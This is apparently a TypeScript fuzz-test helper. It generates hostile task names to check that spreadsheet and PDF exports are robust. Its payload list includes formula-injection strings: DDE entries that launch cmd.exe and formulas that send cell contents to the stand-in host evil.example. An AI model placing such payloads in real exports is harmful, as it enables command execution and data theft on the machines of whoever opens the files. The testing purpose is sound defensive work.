import fc from 'fast-check';
import type { Prng } from './soak.js';

/**
 * Task names that have broken spreadsheet and PDF exports elsewhere: formula and DDE prefixes, bidi overrides,
 * zero-width and combining characters, emoji sequences, lone surrogates, NUL and other control characters,
 * XML and PDF string specials, OOXML escape look-alikes, and lengths around and far past the limit.
 */
const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\t=', '\r=', ' =', '\n='];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  'DDE("cmd";"/C calc";"!A0")',
  "'2+5",
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '0x41',
];
const BIDI = ['\u202e', '\u202d', '\u202a', '\u202b', '\u202c', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e'];
const EMOJI = ['👩‍🚀', '🏳️‍🌈', '🇺🇦', '👍🏽', '🧑‍🤝‍🧑', '❤️', '🫠', '1️⃣', '🏴󠁧󠁢󠁳󠁣󠁴󠁿'];
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', 'a\ud83d', '\ude00b'];
const XML_SPECIALS = ['<', '>', '&', '"', "'", ']]>', '<![CDATA[', '&amp;', '&#0;', '&#x1F;', '<?xml version="1.0"?>', '<f>1+1</f>', '</t><f>SUM(1)</f><t>', '_x000D_', '_x0000_', '_xD800_'];
/** Parentheses and backslashes delimit and escape PDF string literals. */
const PDF_SPECIALS = ['(', ')', '\\', '\\)', '(\\', ') Tj ET BT (', '%PDF-1.4', '%%EOF', 'endobj', 'stream'];
const CONTROLS = [...Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)), '\u007f', '\u0085', '\u2028', '\u2029', '\ufffe', '\uffff'];
const SCRIPTS = ['Проект', 'Ελληνικά', '设计评审', 'مراجعة التصميم', 'עברית', '한국어', 'ไทย', 'Z̴̡̛a̷̢͠l̶g̸o̵'];

function fragment(r: Prng): string {
  switch (r.int(9)) {
    case 0:
      return r.pick(FORMULA_PREFIXES) + r.pick(PAYLOADS);
    case 1:
      return r.pick(BIDI) + r.pick(SCRIPTS) + r.pick(BIDI);
    case 2:
      return r.pick(ZERO_WIDTH).repeat(1 + r.int(3));
    case 3:
      return r.pick(EMOJI);
    case 4:
      return r.pick(LONE_SURROGATES);
    case 5:
      return r.pick(XML_SPECIALS);
    case 6:
      return r.pick(PDF_SPECIALS);
    case 7:
      return r.pick(CONTROLS);
    default:
      return r.pick(SCRIPTS);
  }
}

/**
 * `count` names, the same for the same seed. A name is mostly a formula-prefixed payload or a run of hostile
 * fragments; some are plain ASCII with XML and PDF specials (checked for verbatim in the PDF), some are long
 * (255 fits, more is refused), some are blank or carry NUL (refused), and a tenth come from fast-check's
 * full-range strings.
 */
export function hostileNames(r: Prng, count: number, seed: number): { name: string; kind: string }[] {
  const arbitrary = fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }), { seed, numRuns: Math.ceil(count / 10) });
  const names: { name: string; kind: string }[] = [];
  for (let i = 0; names.length < count; i++) {
    const roll = r.int(20);
    if (roll < 6) {
      names.push({ kind: 'formula', name: r.pick(FORMULA_PREFIXES) + r.pick(PAYLOADS) + (r.chance(0.5) ? fragment(r) : '') });
    } else if (roll < 11) {
      const parts = Array.from({ length: 1 + r.int(4) }, () => fragment(r));
      names.push({ kind: 'mixed', name: parts.join(r.chance(0.5) ? ' ' : '') });
    } else if (roll < 13) {
      const plain = ['Ship <v2> & "more"', "O'Brien's ]]> plan", 'a(b)c\\d', '(unbalanced', 'back\\slash\\)', '<tag attr="x">', 'fish & chips', '100% (done)'];
      names.push({ kind: 'ascii-specials', name: `${r.pick(plain)} ${i}` });
    } else if (roll < 15) {
      const length = r.pick([254, 255, 256, 1000, 10_000]);
      const unit = r.pick(['x', '=', 'é', '👍', '\u202e', '<&>']);
      const name = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
      names.push({ kind: [...name].length <= 255 ? 'long' : 'too-long', name });
    } else if (roll < 16) {
      names.push({ kind: 'refused', name: r.pick(['', '   ', '\t\r\n', '\u0000', `nul\u0000inside`, '\u0000=1+1']) });
    } else if (roll < 18) {
      names.push({ kind: 'arbitrary', name: arbitrary[i % arbitrary.length]! });
    } else {
      names.push({ kind: 'controls', name: Array.from({ length: 1 + r.int(6) }, () => r.pick(CONTROLS)).join('') + r.pick(PAYLOADS) });
    }
  }
  return names;
}
